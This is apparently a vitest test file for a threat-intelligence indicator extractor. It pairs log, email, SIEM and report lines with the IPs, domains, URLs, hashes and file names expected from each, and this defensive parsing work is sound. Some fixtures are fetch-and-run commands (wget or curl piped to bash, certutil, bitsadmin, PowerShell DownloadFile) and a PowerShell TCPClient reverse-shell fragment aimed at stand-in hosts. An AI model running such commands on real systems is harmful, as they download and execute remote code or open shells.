import { describe, expect, it } from 'vitest';
import { extractIndicators } from '../../../src/core/indicators/extract.ts';

/** A line of a log, a table, a mail, code or prose, and every value in it. */
const LINES = String.raw`
  (see https://kuro-pay.com/a/b.php) => https://kuro-pay.com/a/b.php
  <b>https://kuro-pay.com/a/b.php</b> => https://kuro-pay.com/a/b.php
  <a href="https://kuro-pay.com/a?b=1&amp;c=2">x</a> => https://kuro-pay.com/a?b=1&c=2
  <img src='http://kuro-pay.com/x.gif'/> => http://kuro-pay.com/x.gif
  https://kuro-pay.com/a|https://tanuki.net/b => https://kuro-pay.com/a | https://tanuki.net/b
  kuro-pay.com,tanuki.net;sake.org|miso.ru => kuro-pay.com | tanuki.net | sake.org | miso.ru
  203.0.113.7,203.0.113.8;203.0.113.9|203.0.113.10/203.0.113.11 => 203.0.113.7 | 203.0.113.8 | 203.0.113.9 | 203.0.113.10 | 203.0.113.11
  203.0.113.7:4444->198.51.100.9:80 => 203.0.113.7 | 198.51.100.9
  http://kuro-pay.com\nhttp://tanuki.net => http://kuro-pay.com/ | http://tanuki.net/
  {"c2":["kuro-pay.com:443","203.0.113.7:8080"]} => kuro-pay.com | 203.0.113.7
  wget -q -O- http://203.0.113.7/x.sh|bash => http://203.0.113.7/x.sh
  curl 'http://kuro-pay.com/x.sh'|sh => http://kuro-pay.com/x.sh
  certutil -urlcache -f http://kuro-pay.com/a.exe a.exe => http://kuro-pay.com/a.exe | a.exe
  powershell -c "(iwr http://kuro-pay.com/a)" => http://kuro-pay.com/a
  bitsadmin /transfer x http://kuro-pay.com/b.exe %TEMP%\b.exe => http://kuro-pay.com/b.exe | b.exe
  Nov 30 09:10:00 gw sshd[12]: Failed password for root from 203.0.113.7 port 22 ssh2 => 203.0.113.7
  203.0.113.7 - - [30/Nov/2026:09:10:00 +0000] "GET /a.php?u=http://kuro-pay.com/x HTTP/1.1" 200 12 "-" "curl/7.68.0" => 203.0.113.7 | http://kuro-pay.com/x
  {"src_ip":"203.0.113.7","dst_port":443,"tls":{"sni":"kuro-pay.com","version":"TLSv1.2"}} => 203.0.113.7 | kuro-pay.com
  <134>1 2026-11-30T09:10:00Z fw01 - - - SRC=203.0.113.7 DST=198.51.100.2 PROTO=TCP SPT=4444 DPT=80 => 203.0.113.7 | 198.51.100.2
  query[A] kuro-pay.com from 198.51.100.2 => kuro-pay.com | 198.51.100.2
  client @0x7f 203.0.113.7#4242 (kuro-pay.com): query: kuro-pay.com IN A + (198.51.100.2) => 203.0.113.7 | kuro-pay.com | 198.51.100.2
  to=<anna@kuro-pay.com>, relay=mx.kuro-pay.com[203.0.113.7]:25, status=sent => anna@kuro-pay.com | mx.kuro-pay.com | 203.0.113.7
  Received: from mx.kuro-pay.com (mx.kuro-pay.com [203.0.113.7]) by in.tanuki.net => mx.kuro-pay.com | 203.0.113.7 | in.tanuki.net
  CEF:0|Kuro|FW|1.0|100|x|5|src=203.0.113.7 dst=198.51.100.2 request=http://kuro-pay.com/a => 203.0.113.7 | 198.51.100.2 | http://kuro-pay.com/a
  "203.0.113.7","443","kuro-pay.com" => 203.0.113.7 | kuro-pay.com
  IN: TCP 203.0.113.7:4444 > 198.51.100.2:80 => 203.0.113.7 | 198.51.100.2
  X-Forwarded-For: 203.0.113.7, 198.51.100.2 => 203.0.113.7 | 198.51.100.2
  Host: kuro-pay.com\r\nUser-Agent: x => kuro-pay.com
  Image: C:\Windows\System32\cmd.exe CommandLine: cmd.exe /c ping 203.0.113.7 => cmd.exe | 203.0.113.7
  alert tcp any any -> [203.0.113.7,198.51.100.2] any (msg:"x"; content:"kuro-pay.com"; sid:1;) => 203.0.113.7 | 198.51.100.2 | kuro-pay.com
  [file:hashes.MD5 = '5f4dcc3b5aa765d61d8327deb882cf99'] => 5f4dcc3b5aa765d61d8327deb882cf99
  [domain-name:value = 'kuro-pay.com'] => kuro-pay.com
  [ipv4-addr:value = '203.0.113.7/32'] => 203.0.113.7/32
  [url:value = 'http://kuro-pay.com/a'] => http://kuro-pay.com/a
  New-Object System.Net.Sockets.TCPClient("203.0.113.7",4444) => 203.0.113.7
  (New-Object Net.WebClient).DownloadFile('http://kuro-pay.com/a.exe','C:\a.exe') => http://kuro-pay.com/a.exe | a.exe
  CreateObject("WScript.Shell").Run "cmd.exe" => cmd.exe
  document.location="http://kuro-pay.com/x" => http://kuro-pay.com/x
  k8s.gcr.io/pause:3.2 => k8s.gcr.io
  docker.io/library/nginx:1.2 => docker.io
  ghcr.io/kuro/app@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 => ghcr.io | 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
  source.ip: 203.0.113.7 => 203.0.113.7
  destination.domain: kuro-pay.com => kuro-pay.com
  url.full: "https://kuro-pay.com/a" => https://kuro-pay.com/a
  process.hash.sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 => 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
  file.hash.md5 : "5f4dcc3b5aa765d61d8327deb882cf99" => 5f4dcc3b5aa765d61d8327deb882cf99
  C2: 203.0.113.7:443, 198.51.100.9:8443 (TLS) => 203.0.113.7 | 198.51.100.9
  | 203.0.113.7 | kuro-pay.com | 2026-11-30 | high | => 203.0.113.7 | kuro-pay.com
  |203.0.113.7|kuro-pay.com|5f4dcc3b5aa765d61d8327deb882cf99| => 203.0.113.7 | kuro-pay.com | 5f4dcc3b5aa765d61d8327deb882cf99
  "https://kuro-pay.com/a";"203.0.113.7";"x" => https://kuro-pay.com/a | 203.0.113.7
  https://kuro-pay.com/a 200 1234 => https://kuro-pay.com/a
  url=https://kuro-pay.com/a&ref=1 status=200 => https://kuro-pay.com/a&ref=1
  (url: https://kuro-pay.com/a) => https://kuro-pay.com/a
  https://kuro-pay.com/a?x=1#top => https://kuro-pay.com/a?x=1#top
  https://kuro-pay.com/a/?x={y}&z=[1,2] => https://kuro-pay.com/a/?x={y}&z=[1,2]
  https://kuro-pay.com/a!b$c => https://kuro-pay.com/a!b$c
  https://kuro-pay.com/%E4%B8%AD => https://kuro-pay.com/%E4%B8%AD
  https://kuro-pay.com/a.b.c => https://kuro-pay.com/a.b.c
  https://kuro-pay.com/@anna => https://kuro-pay.com/@anna
  https://kuro-pay.com/a:b => https://kuro-pay.com/a:b
  https://www.kuro-pay.com:8443 => https://www.kuro-pay.com:8443/
  HTTPS://WWW.KURO-PAY.COM/A => https://www.kuro-pay.com/A
  https://kuro-pay.com?x=1 => https://kuro-pay.com/?x=1
  https://kuro-pay.com#x => https://kuro-pay.com/#x
  Visit https://kuro-pay.com. Then => https://kuro-pay.com/
  https://kuro-pay.com/a/b/c.tar.gz, => https://kuro-pay.com/a/b/c.tar.gz
  see "https://kuro-pay.com/a b" => https://kuro-pay.com/a
  https://web.archive.example/web/2020/https://kuro-pay.com/a => https://web.archive.example/web/2020/https://kuro-pay.com/a | https://kuro-pay.com/a
  http://kuro-pay.com/redirect?to=http://tanuki.net/b => http://kuro-pay.com/redirect?to=http://tanuki.net/b | http://tanuki.net/b
  https://203.0.113.7 => https://203.0.113.7/
  https://203.0.113.7:8443/a => https://203.0.113.7:8443/a
  hxxps://203[.]0[.]113[.]7 => https://203.0.113.7/
  dropped C:\ProgramData\kuro\svc.exe (9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08) which beacons to login[.]kuro-pay[.]com:443 => svc.exe | 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 | login.kuro-pay.com
  %APPDATA%\kuro.dll => kuro.dll
  svchost.exe -k netsvcs => svchost.exe
  rundll32.exe kuro.dll,Start => rundll32.exe | kuro.dll
  schtasks /create /tn Kuro /tr "C:\a b\kuro.bat" => kuro.bat
  invoice.pdf.exe => invoice.pdf.exe
  invoice.exe. => invoice.exe
  Invoice_2026.docm => invoice_2026.docm
  payload.ps1, run.bat; x.vbs => payload.ps1 | run.bat | x.vbs
  kuro.iso => kuro.iso
  kuro.apk => kuro.apk
  KURO.EXE => kuro.exe
  文件test.exe被下载 => test.exe
  kuro update.exe => update.exe
  ntdll.dll!NtOpenProcess => ntdll.dll
  kernel32.dll+0x10 => kernel32.dll
  域名 login[.]kuro-pay[.]com、www.tanuki.net，IP为203.0.113.7（香港）、198.51.100.9:443 => login.kuro-pay.com | www.tanuki.net | 203.0.113.7 | 198.51.100.9
  样本MD5为5f4dcc3b5aa765d61d8327deb882cf99，SHA256：9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 => 5f4dcc3b5aa765d61d8327deb882cf99 | 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
  访问https://kuro-pay.com/a，然后 => https://kuro-pay.com/a
  访问https://kuro-pay.com/a后下载 => https://kuro-pay.com/a
  邮箱anna@kuro-pay.com发件 => anna@kuro-pay.com
  攻击IP203.0.113.7在11月30日 => 203.0.113.7
  AS64500（Kuro） => AS64500
  网段203.0.113.0/24被封 => 203.0.113.0/24
  注册表HKLM\Software\Kuro被改 => hklm\software\kuro
  affects [www.kuro.io](https://www.kuro.io), [pkg.kuro.io](https://pkg.kuro.io) => www.kuro.io | https://www.kuro.io/ | pkg.kuro.io | https://pkg.kuro.io/
  [A](https://a.kuro.com/t/T1078), [B](https://b.kuro.com/x). [C](https://c.kuro.com) => https://a.kuro.com/t/T1078 | https://b.kuro.com/x | https://c.kuro.com/
  Image=x\kuro.dll;MD5=5f4dcc3b5aa765d61d8327deb882cf99,SHA1=2fd4e1c67a2d28fced849ee1bb76e7391b93eb12 => kuro.dll | 5f4dcc3b5aa765d61d8327deb882cf99 | 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12
`;

/** Lines without a value. */
const NONE = String.raw`
  import os.path, sys.modules; from urllib.parse import urlparse; requests.get(url).json()
  System.out.println("x"); String.prototype.at; app.use(express.static("x")); module.exports = foo.default
  process.env.NODE_ENV; this.state.name; props.data.items.map; e.preventDefault(); args.in.name; obj.is.live
  [System.Convert]::FromBase64String(x) [Net.ServicePointManager]::SecurityProtocol Microsoft.PowerShell.Core Win32_Process.Create
  torch.nn.functional tf.keras.layers.Dense df.groupby("x").size().plot.bar() fmt.Println(err.Error())
  app.kubernetes.pod.name android.permission.INTERNET com.apple.quarantine net.ipv4.ip_forward = 1
  "host.name": "web-1", user.name="x", event.action: login, process.parent.name, log.level, server.port=8080
  /etc/nginx/conf.d/default.conf /var/log/auth.log.1 tar xzf kuro-1.2.3.tar.gz pkg@1.2.3 npm:left-pad@1.3.0 foo.c foo.rs.bk
  ^[a-z.]+@[a-z]+\.com$ \d{1,3}\.\d{1,3}\.\d{1,3} ([0-9]{1,3}\.){3}[0-9]{1,3} %s.%s.%s.%s {0}.{1}.{2}
  rule kuro { condition: uint16(0) == 0x5A4D and pe.imphash() == x and math.entropy(0, filesize) > 7 }
  Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36
  Server: Apache/2.4.41 (Ubuntu) OpenSSH_8.2p1 go1.17.3 python3.9.1 kernel 5.4.0-42-generic 1.0.0-rc.1+build.5 libssl1.1.1f
  3.5.2026 30.11.2026 10.30 a.m. Nov.30 €1.234.567,89 ISBN 978-3-16-148410-0 MS17-010 KB5004442 RHSA-2021:1234
`;

function linesOf(text: string): string[] {
  return text
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '');
}

describe('a line of a text', () => {
  it.each(linesOf(LINES))('gives its values: %s', (line) => {
    const [text = '', expected = ''] = line.split(' => ');
    expect(extractIndicators(text).map(({ value }) => value)).toEqual(expected.split(' | '));
  });

  it.each(linesOf(NONE))('gives none: %s', (line) => {
    expect(extractIndicators(line)).toEqual([]);
  });
});
